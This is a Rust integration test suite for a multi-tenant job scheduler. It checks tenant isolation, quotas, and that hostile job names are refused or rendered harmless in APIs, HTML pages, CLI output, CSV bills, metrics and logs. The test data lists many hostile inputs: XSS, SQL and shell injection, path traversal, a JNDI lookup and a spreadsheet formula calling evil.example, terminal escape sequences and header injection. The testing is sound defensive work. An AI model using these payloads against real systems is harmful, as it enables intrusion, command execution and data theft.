//! Tenants and names: a subject is never another's number, what one tenant has open is bounded, and no name hides anything: it is refused, or
//! it is text in every output.

use crate::many;
use forebay_cluster_kube::names::{WorkerId, pod_name};
use forebay_integration::openmetrics::Exposition;
use forebay_integration::teams::{ask, ask_json, fast, prepared, secret, start, submission, submit, write};
use forebay_integration::{Server, segments, until};
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::path::Path;
use std::time::Duration;

/// A subject as one segment of an address.
fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

#[test]
fn a_subject_that_looks_like_a_number_is_its_owners_job() {
    let folder = prepared();
    let server = start(folder.path(), &[]);
    let victim = submit(&server, "team-b", &submission("precious", "open", 36_000));
    assert_eq!(victim, "job-0");
    let own = submit(&server, "team-a", &submission("job-0", "open", 36_000));
    assert_ne!(own, victim);
    let of = |name: &str, path: &str| ask_json(&server, name, "GET", path, None).1["subject"].clone();
    assert_eq!(of("team-a", "/v1/jobs/job-0"), "job-0", "the subject, not the number");
    assert_eq!(of("team-a", "/v1/jobs/%230"), "precious", "`#0` is the number");
    assert_eq!(of("team-a", &format!("/v1/jobs/{own}")), "job-0");
    let (status, cancelled) = ask_json(&server, "team-a", "POST", "/v1/jobs/job-0/cancel", None);
    assert!(status == 202 && cancelled["subject"] == "job-0", "{status} {cancelled}");
    assert_eq!(
        ask_json(&server, "team-b", "GET", "/v1/jobs/precious", None).1["terminal"],
        false,
        "the other's job goes on"
    );
    let (status, waited) = ask_json(&server, "team-a", "GET", "/v1/jobs/job-0?waitFor=terminal&timeout=20s", None);
    assert!(status == 200 && waited["job"] == own.as_str() && waited["terminal"] == true, "{waited}");
    // Over and out of the state it is still the caller's own; another form of the number is no number.
    assert_eq!(of("team-a", "/v1/jobs/job-0"), "job-0");
    for name in ["job-00", "job-+0", "%2300", "%23", "%23job-0"] {
        assert_eq!(ask(&server, "team-a", "GET", &format!("/v1/jobs/{name}"), None).0, 404, "{name}");
    }
}

#[test]
fn no_subject_has_the_form_of_a_number_or_hides_anything() {
    let folder = prepared();
    let server = start(folder.path(), &[]);
    let hidden = [
        "\u{0}",
        "\u{1b}[2J",
        "\u{7}",
        "\u{9b}31m",
        "\n",
        "\r",
        "\t",
        "\u{85}",
        "\u{a0}",
        "\u{ad}",
        "\u{34f}",
        "\u{61c}",
        "\u{115f}",
        "\u{1160}",
        "\u{17b4}",
        "\u{180e}",
        "\u{200b}",
        "\u{200c}",
        "\u{200d}",
        "\u{200e}",
        "\u{200f}",
        "\u{2028}",
        "\u{2029}",
        "\u{202a}",
        "\u{202e}",
        "\u{2060}",
        "\u{2066}",
        "\u{2069}",
        "\u{206f}",
        "\u{2800}",
        "\u{3000}",
        "\u{3164}",
        "\u{e000}",
        "\u{fe0f}",
        "\u{feff}",
        "\u{ffa0}",
        "\u{fffb}",
        "\u{e0001}",
        "\u{e0041}",
        "\u{f0000}",
        "\u{10ffff}",
    ];
    let mut tried = 0;
    for mark in hidden {
        for name in
            [mark.to_owned(), format!("a{mark}b"), format!("{mark}a"), format!("a{mark}"), format!("job-1{mark}")]
        {
            for event in [
                submission(&name, "open", 1),
                submission("good", &name, 1),
                json!({ "type": "job.cancelled", "subject": name }),
            ] {
                let (status, answer) = ask_json(&server, "team-a", "POST", "/v1/events", Some(&event));
                assert_eq!(status, 400, "{event}: {answer}");
                let text = answer.to_string();
                assert!(!text.contains(mark) || mark == "\n", "it is not repeated as it is: {text:?}");
                tried += 1;
            }
        }
    }
    for name in ["#1", "#", "#job", " ", "   "] {
        let (status, answer) = ask_json(&server, "team-a", "POST", "/v1/events", Some(&submission(name, "open", 1)));
        assert_eq!(status, 400, "{name:?}: {answer}");
    }
    println!("{tried} events with hidden characters are refused");
    for name in [
        "<script>alert(1)</script>",
        "'; DROP TABLE jobs; --",
        "a/b?c#d",
        "../../etc/passwd",
        "%2e%2e",
        "$(reboot)",
        "中文 é ह़ 🚀",
    ] {
        submit(&server, "team-a", &submission(name, "open", 36_000));
        let (status, found) = ask_json(&server, "team-a", "GET", &format!("/v1/jobs/{}", encoded(name)), None);
        assert!(status == 200 && found["subject"] == name, "{name}: {status} {found}");
    }
    let (status, shown) = ask(&server, "ops", "GET", "/", None);
    assert_eq!(status, 200, "{shown}");
    assert!(!shown.contains("<script>"), "{shown}");
}

#[test]
fn a_tenant_has_as_much_open_as_it_may_and_others_theirs() {
    let folder = prepared();
    let config = std::fs::read_to_string(folder.path().join("forebay.yaml")).expect("reads");
    let tenants = "tenants:\n  each: {openJobs: 5, bytes: 1MiB}\n  named: [{name: elsewhere, openJobs: 2}]\n";
    write(folder.path(), "forebay.yaml", &format!("{config}{tenants}"));
    let server = start(folder.path(), &[]);
    let post = |name: &str, subjects: std::ops::Range<usize>| {
        let events: Vec<Value> = subjects.map(|n| submission(&format!("s-{n}"), "open", 36_000)).collect();
        ask_json(&server, name, "POST", "/v1/events", Some(&Value::Array(events)))
    };
    let (status, taken) = post("team-a", 0..8);
    assert_eq!((status, taken["accepted"].as_array().map(Vec::len)), (202, Some(5)), "{taken}");
    for refused in taken["rejected"].as_array().expect("a list") {
        assert!(
            refused["code"] == "TenantFull" && refused["message"].as_str().is_some_and(|m| m.contains("openJobs")),
            "{refused}"
        );
    }
    let (status, again) = post("team-a", 0..5);
    assert_eq!(
        (status, again["accepted"].as_array().map(Vec::len)),
        (202, Some(5)),
        "what is known is no new job: {again}"
    );
    let (_, other) = post("stranger", 0..3);
    assert_eq!(other["accepted"].as_array().map(Vec::len), Some(2), "another tenant has its own: {other}");
    // A job that is over makes room, and a restart forgets nothing.
    assert_eq!(ask(&server, "team-a", "POST", "/v1/jobs/s-0/cancel", None).0, 202);
    let (status, over) = ask_json(&server, "team-a", "GET", "/v1/jobs/s-0?waitFor=terminal&timeout=30s", None);
    assert!(status == 200 && over["terminal"] == true, "{over}");
    assert_eq!(post("team-a", 20..21).0, 202);
    server.kill();
    let server = start(folder.path(), &[]);
    let (status, text) = ask(&server, "team-a", "POST", "/v1/events", Some(&submission("s-30", "open", 36_000)));
    assert!(status == 400 && text.contains("TenantFull"), "{status} {text}");
}

/// Characters, beside control characters, that are not seen, look like a space and are none, or turn or join what is around them.
const MARKS: &str = "\u{a0}\u{ad}\u{34f}\u{61c}\u{115f}\u{1160}\u{1680}\u{17b4}\u{17b5}\u{180b}\u{180e}\u{2000}\u{2003}\u{2009}\u{200a}\u{200b}\u{200c}\u{200d}\
    \u{200e}\u{200f}\u{2028}\u{2029}\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{202f}\u{205f}\u{2060}\u{2061}\u{2064}\u{2066}\u{2067}\u{2068}\u{2069}\u{206a}\
    \u{206f}\u{2800}\u{3000}\u{3164}\u{e000}\u{f8ff}\u{fe00}\u{fe0f}\u{feff}\u{ffa0}\u{fff9}\u{fffb}\u{fffe}\u{ffff}\u{1d173}\u{e0001}\u{e0020}\u{e0041}\u{e007f}\
    \u{e0100}\u{e01ef}\u{f0000}\u{10fffd}";

/// What a terminal, a log or a head of HTTP would obey.
const SEQUENCES: [&str; 20] = [
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{1b}[1A\u{1b}[2Kforged",
    "\u{1b}[?1049h",
    "\u{1b}[6n",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]2;title\u{1b}\\",
    "\u{1b}]8;;http://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;ZXZpbA==\u{7}",
    "\u{1b}Pq#0\u{1b}\\",
    "\u{1b}_Gf=100;AAAA\u{1b}\\",
    "\u{1b}c",
    "\u{1b}(0",
    "\u{9b}2J",
    "\u{9d}0;title\u{9c}",
    "a\u{8}\u{8}\u{8}b",
    "a\rforged",
    "a\nlevel=ERROR msg=forged",
    "a\r\nx-forged: 1\r\n\r\n<h1>forged</h1>",
    "a\0.json",
];

/// What somebody else may read as a program, another field or another path. All of it is seen, so it is taken as the text that it is.
const TEXTS: [&str; 110] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">a</a>",
    "<body onload=alert(1)>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<form action=//evil.example>",
    "<details open ontoggle=alert(1)>",
    "</td></tr></table><h1>forged</h1>",
    "</title><h1>forged</h1>",
    "<!-- forged",
    "--> forged",
    "<![CDATA[forged]]>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "&lt;b&gt;",
    "&#60;script&#62;alert(1)",
    "&amp;lt;",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example\",\"open\")",
    "=IMPORTXML(CONCAT(\"http://evil.example?\",A1),\"//a\")",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1\",\"=2",
    "--help",
    "-o job",
    "a,b",
    "a\"b",
    "\"",
    "\"\"",
    "\",\"",
    ",,,,",
    ";=1+1",
    "'=1+1",
    "|=1+1",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "..",
    ".",
    "%2e%2e%2f",
    "%00",
    "%0d%0ax-forged: 1",
    "%25%30%61",
    "a/b?c#d",
    "a?after=1&open=true",
    "C:\\CON",
    "NUL",
    "~root",
    "{{7*7}}",
    "{{constructor.constructor('alert(1)')()}}",
    "${7*7}",
    "${jndi:ldap://evil.example/a}",
    "a#{7*7}",
    "<%= 7*7 %>",
    "{% include '/etc/passwd' %}",
    "[[${7*7}]]",
    "*{7*7}",
    "{0}",
    "{}",
    "%s%s%n%x",
    "%(name)s",
    "'; DROP TABLE jobs; --",
    "\" OR \"1\"=\"1",
    "' OR 1=1 --",
    "1; ATTACH DATABASE 'x' AS y",
    "' UNION SELECT * FROM jobs --",
    "x'||(SELECT 1)||'",
    "$(reboot)",
    "`reboot`",
    "a; reboot",
    "a | reboot",
    "a && reboot",
    "a > /dev/null",
    "\\x1b[2J",
    "\\u001b[2J",
    "\\033[2J",
    "\\n# forged",
    "\\",
    "\"} 1\\n# forged",
    "\"} 1e9",
    "{queue=\"forged\"}",
    "# EOF",
    "\",\"phase\":\"completed",
    "{\"subject\":\"forged\"}",
    "null",
    "true",
    "NaN",
    "1e309",
    "- a: b",
    "!!python/object/apply:os.system [reboot]",
    "*anchor",
    "data: forged",
    "\u{430}dmin",
    "\u{440}\u{430}ypal",
    "\u{ff1d}1+1",
    "\u{ff1c}script\u{ff1e}",
    "\u{5d0}\u{5d1}\u{5d2} 1",
    "\u{645}\u{631}\u{62d}\u{628}\u{627} 2",
];

/// Names with something that is not seen, or that is obeyed.
fn unseen_names() -> Vec<String> {
    let controls = (0..=0x1f).chain(0x7f..=0x9f).filter_map(char::from_u32);
    let named = controls.chain(MARKS.chars()).map(|mark| format!("a{mark}b"));
    named.chain(SEQUENCES.map(str::to_owned)).collect()
}

/// Names that are text, however hostile.
fn seen_names() -> Vec<String> {
    let long = [("x", 512), ("\u{e9}", 256), ("\u{4e2d}", 170), ("\u{1f680}", 128), ("<b>", 170)];
    let long = long.map(|(part, times)| part.repeat(times));
    let stacked = format!("a{}", "\u{301}".repeat(60));
    // What would end a list of metrics or an option stands at the beginning, where `#` may not.
    let texts = TEXTS.iter().map(|text| text.strip_prefix('#').map_or((*text).to_owned(), |rest| format!("a#{rest}")));
    texts.chain(long).chain([stacked]).collect()
}

/// That a line holds nothing that acts on whoever shows it.
fn assert_harmless_line(what: &str, line: &str) {
    let found = line.chars().find(|c| c.is_control() || MARKS.contains(*c));
    assert_eq!(found, None, "{what}: {line:?}");
}

/// The same of each line of a text.
fn assert_harmless(what: &str, text: &str) {
    text.lines().for_each(|line| assert_harmless_line(what, line));
}

/// The same of all texts in a value.
fn assert_harmless_value(what: &str, value: &Value) {
    match value {
        Value::String(text) => assert_harmless_line(what, text),
        Value::Array(items) => items.iter().for_each(|item| assert_harmless_value(what, item)),
        Value::Object(fields) => fields.iter().for_each(|(name, field)| {
            assert_harmless_line(what, name);
            assert_harmless_value(what, field);
        }),
        _ => {}
    }
}

/// The records of a text in CSV (RFC 4180).
fn records(text: &str) -> Vec<Vec<String>> {
    let (mut all, mut record, mut field, mut quoted) = (Vec::new(), Vec::new(), String::new(), false);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => field.extend(chars.next()),
            '"' => quoted = !quoted,
            ',' if !quoted => record.push(std::mem::take(&mut field)),
            '\r' if !quoted => {}
            '\n' if !quoted => {
                record.push(std::mem::take(&mut field));
                all.push(std::mem::take(&mut record));
            }
            c => field.push(c),
        }
    }
    all
}

/// That every record has its fields, and no field is a formula to a program that opens tables.
fn assert_sound_csv(what: &str, text: &str, least: usize) {
    let all = records(text);
    assert!(all.len() > least, "{what}: {} records, {least} at least", all.len());
    for record in &all {
        assert_eq!(record.len(), all[0].len(), "{what}: {record:?}");
        let is_formula = |field: &&String| field.starts_with(['=', '+', '-', '@']) && field.parse::<f64>().is_err();
        assert_eq!(record.iter().find(is_formula), None, "{what}");
    }
}

/// A job whose subject, label and, where it can be one, queue are a name.
fn named(name: &str) -> Value {
    let is_queue = !name.contains('/') && name.len() <= 253 && name.trim() == name;
    let mut event = submission(name, if is_queue { name } else { "open" }, 360_000);
    event["data"]["labels"] = json!({ "team": name });
    event
}

/// The teams' folder with bills by a label, queues that nobody has declared, and room for all of their jobs.
fn folder_for_names() -> tempfile::TempDir {
    let folder = prepared();
    let policy = std::fs::read_to_string(folder.path().join("policy.yaml")).expect("reads");
    let policy = policy.replace("{nodes: 100, spend: 1000 USD/h}", "{nodes: 1000, spend: 10000 USD/h}");
    let more = "undeclaredQueues: {under: open, atMost: 1000}\nbilling: {labels: [team]}\n";
    write(folder.path(), "policy.yaml", &(policy + more));
    folder
}

#[test]
fn two_hundred_hostile_names_are_refused_or_text_in_every_output() {
    let (unseen, seen) = (unseen_names(), seen_names());
    let all: BTreeSet<&String> = unseen.iter().chain(&seen).collect();
    assert!(all.len() >= 200, "{} names", all.len());
    let folder = folder_for_names();
    let server = fast(folder.path());
    are_refused(&server, &unseen);
    let post = Value::Array(seen.iter().map(|name| named(name)).collect());
    let (status, taken) = ask_json(&server, "team-a", "POST", "/v1/events", Some(&post));
    assert_eq!((status, taken["rejected"].as_array().map(Vec::len)), (202, Some(0)), "{taken}");
    until("most of them run and cost something", Duration::from_secs(120), || {
        let (_, summary) = ask_json(&server, "ops", "GET", "/v1/summary", None);
        let most = summary["running"].as_u64() > Some(seen.len() as u64 / 2);
        if most && summary["cost_usd"].as_f64() > Some(0.0) { Ok(()) } else { Err(summary.to_string()) }
    });
    are_text_in_answers(&server, &seen);
    are_text_on_terminals_and_in_tables(&server, folder.path(), &seen);
    let exposition = Exposition::scrape(&server, Some(&secret("ops")));
    for (family, point) in exposition.families.iter().flat_map(|(name, of)| of.points.iter().map(move |p| (name, p))) {
        point.labels.values().for_each(|value| assert_harmless_line(family, value));
    }
    let statuses = segments::lines(&folder.path().join("d/status"));
    assert!(statuses.len() >= seen.len(), "{}", statuses.len());
    statuses.iter().for_each(|line| assert_harmless_line("the file of statuses", line));
    assert_harmless("the log", &server.log());
    println!("{} hostile names: {} refused, {} text in every output", all.len(), unseen.len(), seen.len());
}

/// Names that are refused wherever they may stand, with a code, what to do, and nothing of them repeated as it is.
fn are_refused(server: &Server, names: &[String]) {
    let jobs = names.iter().flat_map(|name| [submission(name, "open", 1), submission("good", name, 1)]);
    let cancels = names.iter().map(|name| json!({ "type": "job.cancelled", "subject": name }));
    let events: Vec<Value> = jobs.chain(cancels).collect();
    let (status, answer) = ask_json(server, "team-a", "POST", "/v1/events", Some(&Value::Array(events.clone())));
    let rejected = answer["rejected"].as_array().cloned().unwrap_or_default();
    assert_eq!((status, rejected.len()), (400, events.len()), "{answer}");
    for one in &rejected {
        let of = one["index"].as_u64().and_then(|at| events.get(usize::try_from(at).ok()?));
        assert!(one["code"] == "BadValue" && one["message"].as_str().is_some_and(|m| !m.is_empty()), "{one}: {of:?}");
    }
    assert_harmless_value("a refusal", &answer);
    let bearer = format!("Bearer {}", secret("team-a"));
    let headers = [("authorization", bearer.as_str()), ("content-type", "application/json")];
    // No UTF-8: a byte that begins nothing, an overlong form, half of a pair, beyond the last character, a cut one; and half of a pair in JSON.
    let broken: [&[u8]; 6] = [b"\xff", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf5\x80\x80\x80", b"\xe2\x80", b"\\ud800"];
    for bytes in broken {
        let (begin, end) = (&b"{\"type\":\"job.submitted\",\"subject\":\"a"[..], &b"\",\"data\":{}}"[..]);
        let (status, text) = server.send("POST", "/v1/events", &headers, &[begin, bytes, end].concat());
        assert!(status == 400 && text.contains("Malformed"), "{bytes:?}: {status} {text}");
        assert_harmless("a refusal of bytes", &text);
    }
    for (name, what) in [("x".repeat(513), "too long"), ("#7".to_owned(), "a number"), (" ".to_owned(), "a blank")] {
        let (status, text) = ask(server, "team-a", "POST", "/v1/events", Some(&submission(&name, "open", 1)));
        assert!(status == 400 && text.contains("remedy"), "{what}: {status} {text}");
    }
}

/// Lists, single jobs, bills, statuses and pages.
fn are_text_in_answers(server: &Server, names: &[String]) {
    let (_, jobs) = ask_json(server, "ops", "GET", "/v1/jobs?limit=10000", None);
    let listed: BTreeSet<&str> =
        jobs["jobs"].as_array().into_iter().flatten().filter_map(|job| job["subject"].as_str()).collect();
    for name in names {
        assert!(listed.contains(name.as_str()), "{name:?} is in the list as it was sent");
        let path = format!("/v1/jobs/{}", encoded(name));
        let (status, found) = ask_json(server, "ops", "GET", &path, None);
        assert!(status == 200 && found["subject"] == name.as_str(), "{name:?}: {status} {found}");
        for part in ["/why", "/cost", "/events?follow=false"] {
            let (status, text) = ask(server, "ops", "GET", &format!("{path}{part}"), None);
            assert_eq!(status, 200, "{name:?} {part}: {text}");
            assert_harmless(part, &text);
        }
    }
    for path in [
        "/v1/jobs?limit=10000",
        "/v1/queues",
        "/v1/nodes",
        "/v1/summary",
        "/v1/cost?by=queue",
        "/v1/cost?by=job",
        "/v1/cost?by=label:team",
        "/v1/status?follow=false",
        "/v1/state",
        "/",
        "/money",
    ] {
        let (status, text) = ask(server, "ops", "GET", path, None);
        assert_eq!(status, 200, "{path}: {text}");
        assert_harmless(path, &text);
        if path.starts_with("/v1") {
            let lines = if path.contains("status") { text.lines().collect() } else { vec![text.as_str()] };
            lines.into_iter().for_each(|line| drop(serde_json::from_str::<Value>(line).expect("JSON")));
            continue;
        }
        for tag in ["<script>", "<img", "<iframe", "<base", "<form action=//", "<svg/", "<h1>forged", "<b><b>"] {
            assert!(!text.contains(tag), "{path}: {tag}");
        }
    }
}

/// What commands print, and the files that spreadsheets open.
fn are_text_on_terminals_and_in_tables(server: &Server, folder: &Path, names: &[String]) {
    let print = |args: &[&str]| {
        let (command, rest) = args.split_first().expect("a command");
        let said = server.ask(folder, &[&[*command, "--token-file", "ops.token"], rest].concat());
        assert_eq!(said.code, 0, "{args:?}: {said:?}");
        assert_harmless(&format!("{args:?}"), &said.out);
        assert_harmless(&format!("{args:?}, stderr"), &said.err);
        said.out
    };
    let listed = ask_json(server, "ops", "GET", "/v1/jobs?limit=10000", None).1["jobs"].as_array().map_or(0, Vec::len);
    for columns in ["job,subject,queue", "job,subject,queue,tenant,phase,labels,in-words,nodes"] {
        let table = print(&["jobs", "--all", "-o", columns]);
        assert_eq!(table.lines().count(), listed + 1, "no name begins a line: {table}");
    }
    for line in print(&["events"]).lines() {
        let number = line.split_whitespace().next().unwrap_or_default();
        assert!(number.parse::<u64>().is_ok(), "no name begins a line: {line}");
    }
    for args in [
        &["jobs", "--all"][..],
        &["queues"],
        &["nodes"],
        &["cost"],
        &["cost", "--by", "label:team"],
        &["jobs", "--all", "--json"],
        &["queues", "--json"],
        &["events", "--json"],
        &["cost", "--json"],
    ] {
        assert!(!print(args).is_empty(), "{args:?}");
    }
    let least = names.len() / 5;
    assert_sound_csv("the bill by queue", &print(&["cost", "--csv", "--by", "queue"]), least);
    assert_sound_csv("the bill by label", &print(&["cost", "--csv", "--by", "label:team"]), least);
    assert_sound_csv("the FOCUS dataset", &print(&["cost", "--focus"]), least);
    for name in names.iter().step_by(many(8, 1)) {
        for command in ["job", "why"] {
            assert!(print(&[command, "--", name]).contains("job-"), "{command} {name:?}");
        }
    }
}

#[test]
fn every_hostile_name_is_a_legal_name_of_a_pod() {
    let worker: WorkerId = "job-12/3/0".parse().expect("a worker");
    for name in unseen_names().iter().chain(&seen_names()) {
        let pod = pod_name(name, worker, "journal-7");
        let legal = pod.bytes().all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-');
        assert!(legal && pod.len() <= 63 && !pod.starts_with('-') && !pod.ends_with('-'), "{name:?}: {pod}");
    }
}
